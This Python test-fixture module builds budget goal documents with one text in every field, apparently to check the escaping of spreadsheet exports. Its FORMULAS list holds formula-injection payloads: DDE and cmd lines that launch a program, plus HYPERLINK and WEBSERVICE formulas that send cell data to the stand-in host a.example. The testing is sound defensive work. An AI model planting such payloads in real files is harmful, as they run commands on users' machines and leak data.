"""Documents with one and the same text in every field."""

from __future__ import annotations

from xlgoals.model import (
    Department,
    Duty,
    Funding,
    GoalDocument,
    Indicator,
    Leftover,
    Project,
    SpendingPlan,
)
from xlgoals.values import IndicatorValue, Money, Percent

__all__ = ["FORMULAS", "everywhere"]

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://a.example/?"&A1,"x")',
    '=WEBSERVICE("http://a.example")',
    '=DDE("cmd";"/C calc";"x")',
    "'=1+1",
    "\u200b=1+1",
    "{=1+1}",
    "=" * 300,
    "#N/A",
    "TRUE",
    "1E5",
    "2026-01-02",
    "[red]x[/nothing]",
)
"""Texts that some application might work out, or otherwise take for more than a text."""


def everywhere(payload: str, prose: str | None = None) -> GoalDocument:
    """A document in normal form that has the text in every field that takes one.

    Args:
        payload: A tidied text of one line.
        prose: What stands in the fields outside tables, where tabs and the like are kept.
    """
    prose = payload if prose is None else prose
    money, percent = Money.parse(payload), Percent.parse(payload)
    rows = [
        Indicator(
            level1=payload,
            level2=payload,
            name=payload,
            description=payload,
            value=IndicatorValue.parse(payload),
            basis=payload,
            extras=extras,
        )
        for extras in ((("分值", payload),), ())
    ]
    project = Project(
        number=1,
        title=payload,
        unit=payload,
        money_unit=payload,
        code=payload,
        name=payload,
        funding=Funding(total=money, fiscal=money, other=money, purpose=payload),
        plan=SpendingPlan(march=percent, june=percent, october=percent, december=percent),
        goals=(payload, payload),
        indicators=tuple(rows),
    )
    return GoalDocument(
        department=Department(code=payload, name=payload),
        year=2026,
        front=(prose,),
        overall_goal=(prose, prose),
        duties=(Duty(heading=payload, goal=payload, indicator=payload),),
        safeguards=(prose,),
        projects=(project,),
        leftovers=(Leftover(text=prose),),
    )
